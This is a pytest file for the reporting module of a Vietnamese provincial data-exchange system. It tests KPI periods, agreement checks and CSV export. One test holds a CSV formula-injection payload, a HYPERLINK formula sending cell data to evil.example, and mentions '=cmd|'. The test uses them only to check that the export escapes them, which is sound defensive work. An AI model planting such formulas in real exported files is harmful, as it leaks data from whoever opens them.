"""Reports at their edges (each case found in review, failing before its fix): an agency listed
twice, a rerun after a dossier moved agency, the daily run's period, a period given by one bound
or ending before it starts, a portal row without SoTienDo, a threshold written with a percent
sign."""
from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from lienthong.reports.facts import refresh_dossier_facts
from lienthong.reports.kpi import compute_kpis, parse_period
from lienthong.store import Store, catalogue_current, outbox, utcnow

AS_OF = datetime(2026, 12, 5, tzinfo=UTC)


def _store(tmp_path) -> Store:
    store = Store(f"sqlite:///{tmp_path / 'bus.db'}")
    store.create_schema()
    return store


def _publish(store: Store, code: str, implementing: list[dict], level: str = "full") -> None:
    record = {"procedure_code": code, "online_level": level, "publishing_agency_code": "X",
              "agencies": {"implementing": implementing}}
    with store.begin() as conn:
        conn.execute(catalogue_current.insert().values(procedure_code=code, record=record, record_hash="h",
                                                       published=True, updated_at=utcnow()))


def test_an_agency_listed_twice_under_two_names_counts_each_procedure_once(tmp_path):
    store = _store(tmp_path)
    _publish(store, "1.000001", [{"code": "000.00.01.H49", "name": "Sở Tư pháp"},
                                 {"code": "000.00.01.H49", "name": "Sở Tư pháp tỉnh"}])
    _publish(store, "1.000002", [{"code": "000.00.01.H49", "name": "Sở Tư pháp"}], level="none")
    report = compute_kpis(store, parse_period("2026-11-01", "2026-11-30"), as_of=AS_OF)
    agency = next(r for r in report.agencies if r.agency_code == "000.00.01.H49")
    assert report.province.procedures == 2
    # the agency implements 2 procedures, one of them full-level: 50 %
    assert (agency.procedures, agency.level_full, agency.share_full) == (2, 1, 0.5)


def _snapshot(no: str, agency: str, version: int) -> dict:
    return {"dossierNo": no, "version": version, "dossierStatus": "new", "govAgencyCode": agency,
            "serviceCode": "1.000001", "submissionChannel": "counter",
            "submitDate": "2026-11-02T08:15:00+07:00", "receiveDate": "2026-11-02T08:15:00+07:00",
            "dueDate": "2026-11-09T08:15:00+07:00", "finishDate": None,
            "modifiedAt": "2026-11-02T08:15:00+07:00", "progress": []}


def _stage(conn, seq: int, snapshot: dict) -> None:
    conn.execute(outbox.insert().values(flow="dossier_status", record_key=snapshot["dossierNo"], source_seq=seq,
                                        source_version=snapshot["version"], source_payload=snapshot,
                                        state="pending", attempts=0, staged_at=utcnow()))


def test_a_rerun_of_the_same_period_replaces_the_agency_rows_in_the_ministry_table(tmp_path):
    from connectors.ministry_db.replica import MinistryReplica, thong_ke_dvc
    from lienthong.reports.ministry import write_kpis

    store = _store(tmp_path)
    with store.begin() as conn:
        _stage(conn, 1, _snapshot("D-1", "AG-A", 1))
    refresh_dossier_facts(store)
    period = parse_period("2026-11-01", "2026-11-30")
    replica = MinistryReplica(f"sqlite:///{tmp_path / 'ministry.db'}")
    write_kpis(replica, compute_kpis(store, period, as_of=AS_OF))
    # the dossier was transferred to another agency: its newer snapshot names AG-B
    with store.begin() as conn:
        _stage(conn, 2, _snapshot("D-1", "AG-B", 2))
    refresh_dossier_facts(store)
    write_kpis(replica, compute_kpis(store, period, as_of=AS_OF))
    with replica.engine.connect() as conn:
        rows = {r.ma_co_quan: r.hs_tiep_nhan for r in conn.execute(
            select(thong_ke_dvc.c.ma_co_quan, thong_ke_dvc.c.hs_tiep_nhan))}
    replica.dispose()
    # province 1 dossier; the agencies' rows must add up to it
    assert rows == {"*": 1, "AG-B": 1}


def test_the_daily_run_on_the_first_writes_the_whole_previous_month(tmp_path, monkeypatch):
    """report_kpi runs @daily (00:00 UTC = 07:00 in Viet Nam). With "this month up to today" a
    dossier submitted on 30 November at 15:00 local was in no ministry row for November: the row
    1-30 November was computed that morning, never again. The DAG now takes whole days."""
    from connectors.connection import connection_from_env
    from connectors.ministry_db.replica import MinistryReplica, thong_ke_dvc
    from lienthong.reports import kpi as kpi_module
    from lienthong.reports import tasks as report_tasks

    monkeypatch.setenv("AIRFLOW_CONN_LIENTHONG_DB", json.dumps({"conn_type": "sqlite", "host": str(tmp_path / "bus.db")}))
    monkeypatch.setenv("AIRFLOW_CONN_MINISTRY_DB_DEFAULT",
                       json.dumps({"conn_type": "sqlite", "host": str(tmp_path / "ministry.db")}))
    store = _store(tmp_path)

    def daily_run(now: datetime) -> None:  # what the DAG's two tasks do, with params at their defaults
        monkeypatch.setattr(report_tasks, "utcnow", lambda: now)
        monkeypatch.setattr(kpi_module, "utcnow", lambda: now)
        report_tasks.refresh_facts(connection_from_env)
        report_tasks.kpi_report(connection_from_env, out_dir=tmp_path / "out", with_agreement=False, refresh=False,
                                whole_days=True)  # as dags/report_kpi.py calls it

    daily_run(datetime(2026, 11, 30, 0, 0, tzinfo=UTC))  # 30 Nov 07:00 local
    snap = _snapshot("D-1", "AG-A", 1)
    snap.update(submitDate="2026-11-30T15:00:00+07:00", modifiedAt="2026-11-30T15:00:00+07:00")
    with store.begin() as conn:  # the dossier flow stages it later that day
        _stage(conn, 1, snap)
    daily_run(datetime(2026, 12, 1, 0, 0, tzinfo=UTC))  # 1 Dec 07:00 local
    replica = MinistryReplica(f"sqlite:///{tmp_path / 'ministry.db'}")
    with replica.engine.connect() as conn:
        rows = conn.execute(select(thong_ke_dvc.c.tu_ngay, thong_ke_dvc.c.den_ngay, thong_ke_dvc.c.hs_tiep_nhan)
                            .where(thong_ke_dvc.c.ma_co_quan == "*")).all()
    replica.dispose()
    november = {(a, b): n for a, b, n in rows if str(a).startswith("2026-11")}
    assert november.get(("2026-11-01", "2026-11-30")) == 1, rows


def _bus_only(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("LIENTHONG_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AIRFLOW_CONN_LIENTHONG_DB", json.dumps({"conn_type": "sqlite", "host": str(tmp_path / "bus.db")}))
    monkeypatch.setenv("AIRFLOW_CONN_MINISTRY_DB_DEFAULT",
                       json.dumps({"conn_type": "sqlite", "host": str(tmp_path / "ministry.db")}))


def test_a_lone_date_from_or_date_to_is_used_and_the_other_bound_defaults(tmp_path, monkeypatch):
    """report_kpi's params: date_from 'default: 1st of date_to's month', date_to 'default:
    yesterday'; `lienthong report kpi --from/--to` the same with today. Given one bound alone, the
    report ignored it and covered the default period."""
    from datetime import date

    from connectors.connection import connection_from_env
    from lienthong.reports import tasks as report_tasks

    _bus_only(tmp_path, monkeypatch)
    summary = report_tasks.kpi_report(connection_from_env, date_from="2026-01-01", ministry=False,
                                      out_dir=tmp_path / "out", whole_days=True)
    yesterday = report_tasks.default_period(whole_days=True)[1]
    assert (summary["from"], summary["to"]) == ("2026-01-01", yesterday)
    summary = report_tasks.kpi_report(connection_from_env, date_to="2026-01-31", ministry=False,
                                      out_dir=tmp_path / "out", whole_days=True)
    assert (summary["from"], summary["to"]) == ("2026-01-01", "2026-01-31")
    # an exclusive date-time as the end: the month of its last included day
    assert report_tasks.report_period(None, "2026-03-01T00:00:00+07:00") == ("2026-02-01", "2026-03-01T00:00:00+07:00")
    today = date(2026, 11, 28)
    assert report_tasks.report_period("2026-11-03", None, today=today) == ("2026-11-03", "2026-11-28")
    assert report_tasks.report_period(None, None, today=today, whole_days=True) == ("2026-11-01", "2026-11-27")


def test_a_period_that_ends_before_it_starts_is_refused_naming_both_bounds(tmp_path, monkeypatch, capsys):
    from datetime import date

    from lienthong.cli import main
    from lienthong.reports import tasks as report_tasks

    with pytest.raises(ValueError, match=r"from 2026-02-01 to 2026-01-31: the period ends"):
        report_tasks.report_period("2026-02-01", "2026-01-31")
    # the default bound is named as such: a date_from after yesterday fails the DAG's task at once
    with pytest.raises(ValueError, match=r"from 2026-11-28 to 2026-11-27 \(default: yesterday\)"):
        report_tasks.report_period("2026-11-28", None, today=date(2026, 11, 28), whole_days=True)
    _bus_only(tmp_path, monkeypatch)
    assert main(["report", "kpi", "--from", "2026-02-01", "--to", "2026-01-31", "--out", str(tmp_path)]) == 2
    captured = capsys.readouterr()
    assert "the period ends (2026-01-31) before it starts (2026-02-01)" in captured.err and not captured.out
    assert main(["report", "kpi", "--to", "2026-13-01", "--out", str(tmp_path)]) == 2
    assert "2026-13-01" in capsys.readouterr().err


def test_a_portal_row_without_sotiendo_is_no_progress_difference():
    from lienthong.reports.agreement import DossierStatusCheck

    check = DossierStatusCheck(onestop=None, portal=None)
    snapshot = {"dossierNo": "D-1", "dossierStatus": "new", "progress": [],
                "modifiedAt": "2026-11-02T08:15:00+07:00"}
    # the portal holds the dossier with the right status; it just does not say how many entries it holds
    row = {"MaHoSo": "D-1", "TrangThaiHoSo": "2", "NgayCapNhat": "20261102081500"}
    assert check.compare(snapshot, row, delivered_status="2") == []


def test_a_threshold_with_a_percent_sign_is_a_percent():
    from lienthong.reports.cli import _percent

    assert [_percent(t) for t in ("1%", "0.5%", "50%", "50", "0.3", "1")] == [0.01, 0.005, 0.5, 0.5, 0.3, 1.0]


@pytest.mark.parametrize("given", ["150", "150%", "-5", "nan", "inf", "half"])
def test_a_threshold_that_is_not_a_share_is_refused_naming_it(given, capsys):
    """`--threshold 150` became 1.5 and flagged every agency (NaN and negatives flagged none): the
    command line refuses what is not a share from 0 to 100 %, exit 2 naming the value, as the DAG's
    parameter does."""
    from lienthong.cli import main

    with pytest.raises(SystemExit) as stopped:
        main(["report", "kpi", "--from", "2026-11-01", "--to", "2026-11-30", "--threshold", given])
    assert stopped.value.code == 2
    said = capsys.readouterr().err
    assert f"--threshold: {given!r} is not a share" in said


def test_the_kpi_dag_asks_for_whole_days():
    from pathlib import Path

    text = (Path(__file__).resolve().parents[3] / "dags" / "report_kpi.py").read_text()
    assert "whole_days=True" in text


def _exchange(store: Store, flow: str, operation: str, keys: tuple[str, ...], at: datetime) -> int:
    from connectors.transport import Exchange
    from lienthong.exchange_log import BusRecorder, exchanges_for_key

    BusRecorder(store, flow, f"{flow}-run").record(Exchange(
        peer="p", operation=operation, method="POST", url="http://127.0.0.1/", started_at=at, duration_ms=1.0,
        attempt=1, outcome="ok", record_keys=keys, response_status=200))
    return exchanges_for_key(store, keys[0])[-1]["id"]


def test_a_fee_differences_last_exchange_is_about_its_payment_not_its_dossier(tmp_path):
    """A fee difference is keyed by the payment reference; its "last exchange" was looked up by
    the dossier number, so a later delivery of the dossier's status to the portal (nothing to do
    with the fee) was named as the last thing the bus did about the missing receipt."""
    from types import SimpleNamespace

    from lienthong.reports.agreement import FeePaymentCheck

    store = _store(tmp_path)
    paid_at = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
    submit = _exchange(store, "payment_receipts", "SubmitReceipts", ("REF-1", "BL-1", "D-1"), paid_at)
    _exchange(store, "dossier_status", "CapNhatTrangThai", ("D-1",), datetime(2026, 11, 25, tzinfo=UTC))
    check = FeePaymentCheck(
        payments=lambda: [{"reference": "REF-1", "dossier_no": "D-1", "amount": 50000, "status": "paid",
                           "receipt_no": "BL-1", "agency_code": "AG", "changed_at": paid_at}],
        platform=lambda ref: SimpleNamespace(status="paid", amount=50000, paid_at=paid_at),
        ledger=lambda number: None, receipt_of=lambda ref: None)
    result = check.run(store, as_of=AS_OF)
    assert [(d.record_key, d.aspect, d.dossier_no) for d in result.differences] == [("REF-1", "ledger_missing", "D-1")]
    assert result.differences[0].last_exchange_id == submit
    assert "SubmitReceipts" in result.differences[0].last_exchange


def test_a_dossier_check_whose_connection_airflow_lacks_is_recorded_as_not_checked(tmp_path, monkeypatch):
    """README: "A check whose peers are not configured is recorded as not checked, with the
    reason." The fee check was; the dossier check let Airflow's AirflowNotFoundException through,
    so the DAG's task failed (three retries) and the run's report was never written."""
    from airflow.exceptions import AirflowNotFoundException

    from connectors.connection import connection_from_env
    from lienthong.reports import tasks as report_tasks
    from lienthong.reports.agreement import load_agreement

    _bus_only(tmp_path, monkeypatch)

    def resolve(conn_id: str):
        if conn_id == "lienthong_db":
            return connection_from_env(conn_id)
        raise AirflowNotFoundException(f"The conn_id `{conn_id}` isn't defined")

    summary = report_tasks.check_agreement(resolve, run_id="r-1", check="dossier_status", as_of=AS_OF)
    assert (summary["checked"], summary["differing"]) == (0, 0)
    assert "connection onestop_default is not configured" in summary["skipped"]
    result = load_agreement(_store(tmp_path), "r-1").results[0]
    assert result.check_name == "dossier_status" and result.note.startswith("not checked: connection ")


def test_fail_on_difference_fails_when_a_check_could_not_run(tmp_path, monkeypatch, capsys):
    """`lienthong report agreement --fail-on-difference` with no peer configured checked nothing
    and exited 0, as if every system agreed: an unknown is not an agreement."""
    from lienthong.cli import main

    _bus_only(tmp_path, monkeypatch)
    code = main(["report", "agreement", "--fail-on-difference", "--no-ministry", "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 1
    assert "dossier_status not checked: connection onestop_default is not configured" in err
    assert "fee_payment not checked: connection onestop_default is not configured" in err
    # without the flag, the run is still reported and succeeds
    assert main(["report", "agreement", "--no-ministry", "--out", str(tmp_path / "out")]) == 0


def test_a_check_whose_peer_cannot_be_read_is_recorded_as_not_checked_before_the_error(tmp_path, monkeypatch):
    """A dossier check whose one-stop did not answer raised and recorded nothing: the run held the
    fee check alone, and the KPI report (which shows the latest run) dropped the dossier check
    without a word, as if there were nothing to say about dossiers. The run now says it was not
    checked, and why, until a retry replaces that with the result."""
    from connectors.errors import PeerUnavailable
    from lienthong.reports import tasks as report_tasks
    from lienthong.reports.agreement import load_agreement
    from lienthong.reports.render import render_html

    _bus_only(tmp_path, monkeypatch)
    closed = {"conn_type": "http", "host": "127.0.0.1", "port": 9, "schema": "http", "password": "k",
              "extra": {"max_attempts": 1, "connect_timeout": 1, "read_timeout": 1}}
    monkeypatch.setenv("AIRFLOW_CONN_ONESTOP_DEFAULT", json.dumps(closed))
    monkeypatch.setenv("AIRFLOW_CONN_NATIONAL_PORTAL_DEFAULT", json.dumps({**closed, "login": "u", "extra": {**closed["extra"], "madonvi": "000.00.00.H49"}}))
    from connectors.connection import connection_from_env

    with pytest.raises(PeerUnavailable):
        report_tasks.check_agreement(connection_from_env, run_id="r-1", check="dossier_status", as_of=AS_OF)
    report = load_agreement(_store(tmp_path), "r-1")
    assert report is not None
    [result] = report.results
    assert (result.check_name, result.systems, result.checked) == ("dossier_status", "onestop↔national_portal", 0)
    assert result.note.startswith("not checked: PeerUnavailable: ")
    assert "not checked: PeerUnavailable" in render_html(None, report)


def test_a_dossier_the_one_stop_lists_twice_is_checked_once_in_its_newest_version(tmp_path):
    """The one-stop client reads back over pages when the list shrinks and yields a dossier that
    changed in between a second time (its bytes differ). The check counted it twice and kept the
    stale version's difference: 3 dossiers checked out of 2, one reported differing though its
    newest snapshot agrees with the portal."""
    from types import SimpleNamespace

    from lienthong.reports.agreement import DossierStatusCheck

    def snap(no: str, version: int, status: str) -> dict:
        return {"dossierNo": no, "version": version, "dossierStatus": status, "progress": [],
                "modifiedAt": f"2026-11-02T0{version}:00:00+07:00", "submitDate": "2026-11-02T01:00:00+07:00"}

    portal = {"D-1": {"MaHoSo": "D-1", "TrangThaiHoSo": "4", "NgayCapNhat": "20261102030000", "SoTienDo": "0"},
              "D-2": {"MaHoSo": "D-2", "TrangThaiHoSo": "2", "NgayCapNhat": "20261102030000", "SoTienDo": "0"}}
    pages = [[snap("D-1", 3, "processing"), snap("D-2", 1, "new")], [snap("D-1", 2, "new")]]
    store = _store(tmp_path)
    for listing in (pages, pages[::-1]):  # the stale version read last or first
        check = DossierStatusCheck(SimpleNamespace(iter_dossiers=lambda listing=listing: iter(listing)),
                                   SimpleNamespace(lookup_dossier=portal.get))
        result = check.run(store, as_of=AS_OF)
        assert (result.checked, result.agreeing, result.differences) == (2, 2, [])


def test_a_payment_the_one_stop_lists_twice_is_checked_once_as_last_read(tmp_path):
    """The same for fees: a payment request recorded paid while the list was read came twice, the
    first time still pending. It was counted twice, one of them a status difference."""
    from types import SimpleNamespace

    from lienthong.reports.agreement import FeePaymentCheck

    paid_at = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
    request = {"reference": "REF-1", "dossier_no": "D-1", "amount": 50000, "receipt_no": "BL-1",
               "agency_code": "AG", "changed_at": paid_at}
    check = FeePaymentCheck(
        payments=lambda: [{**request, "status": "pending"}, {**request, "status": "paid"}],
        platform=lambda ref: SimpleNamespace(status="paid", amount=50000, paid_at=paid_at),
        ledger=lambda number: {"amount": 50000}, receipt_of=lambda ref: None)
    result = check.run(_store(tmp_path), as_of=AS_OF)
    assert (result.checked, result.agreeing, result.differences) == (1, 1, [])


def test_the_ministry_tables_flag_names_the_threshold_as_given():
    """`--threshold 0.5%` flagged an agency under half a percent, and the ministry table's
    canh_bao said "<0%" (rounded to a whole percent; 12.5 % became "<12%"), unlike the HTML."""
    from lienthong.reports.kpi import KpiRow
    from lienthong.reports.ministry import flag_text

    assert flag_text(KpiRow("AG", "", flags=[0.5, 0.3, 0.125, 0.07, 0.005])) == "<50%,<30%,<12.5%,<7%,<0.5%"
    assert flag_text(KpiRow("AG", "")) is None


def test_a_difference_about_an_over_long_dossier_number_or_agency_code_is_kept(bus_store):
    """The one-stop can hold a dossier whose number or agency code is longer than the bus's
    columns (the dossier flow dead-letters it; the portal never gets it): exactly a difference to
    report. Saving the run failed on PostgreSQL (VARCHAR(200), VARCHAR(64)) and lost the check."""
    from types import SimpleNamespace

    from lienthong.reports.agreement import DossierStatusCheck, load_agreement, save_result

    long_no, other_long_no = "X" * 250, "X" * 249 + "Y"
    snaps = [{"dossierNo": no, "dossierStatus": "new", "govAgencyCode": agency, "progress": []}
             for no, agency in ((long_no, "AG"), (other_long_no, "AG"), ("D-2", "A" * 65))]
    check = DossierStatusCheck(SimpleNamespace(iter_dossiers=lambda: iter([snaps])),
                               SimpleNamespace(lookup_dossier=lambda key: None))
    save_result(bus_store, "r-1", check.run(bus_store, as_of=AS_OF))
    [result] = load_agreement(bus_store, "r-1").results
    assert (result.checked, result.agreeing, result.differing) == (3, 0, 3)
    kept = {d.record_key: d for d in result.differences}
    assert len(kept) == 3 and all(len(k) <= 200 and d.aspect == "missing" for k, d in kept.items())
    assert sorted(k[:188] for k in kept if k != "D-2") == [long_no[:187] + "…"] * 2  # told apart, not merged
    assert kept["D-2"].agency_code == "A" * 51 + "…" + kept["D-2"].agency_code[-12:]


def test_peer_text_in_the_csv_files_is_never_a_spreadsheet_formula():
    """The CSV files are written for a spreadsheet (UTF-8 with a BOM). Text a peer supplied (an
    agency name from the one-stop, a status the portal holds) beginning with = + - @ was written
    as is, and a spreadsheet runs it as a formula (=HYPERLINK(...) leaking data, =cmd|...)."""
    import csv as csv_module
    import io

    from lienthong.reports.agreement import AgreementReport, CheckResult, Difference
    from lienthong.reports.kpi import KpiReport, KpiRow
    from lienthong.reports.render import agreement_csv, kpi_csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    diff = Difference("dossier_status", "D-1", "status", "4 (processing)", hostile, AS_OF, 0,
                      agency_code="+AG", dossier_no="D-1", detail="@SUM(1)")
    rows = list(csv_module.reader(io.StringIO(agreement_csv(
        AgreementReport("r-1", AS_OF, [CheckResult("dossier_status", "a↔b", AS_OF, 1, 0, [diff])])))))
    cells = dict(zip(rows[0], rows[1]))
    assert (cells["value_b"], cells["agency_code"], cells["detail"]) == ("'" + hostile, "'+AG", "'@SUM(1)")
    assert (cells["record_key"], cells["age_seconds"]) == ("D-1", "0")
    period = parse_period("2026-11-01", "2026-11-30")
    province = KpiRow("*", "Toàn tỉnh")
    report = KpiReport(period, AS_OF, AS_OF, (0.5,), province, [KpiRow("AG", "-1+1", received=-0)], [], {})
    rows = list(csv_module.reader(io.StringIO(kpi_csv(report))))
    assert [dict(zip(rows[0], r))["agency_name"] for r in rows[1:]] == ["Toàn tỉnh", "'-1+1"]
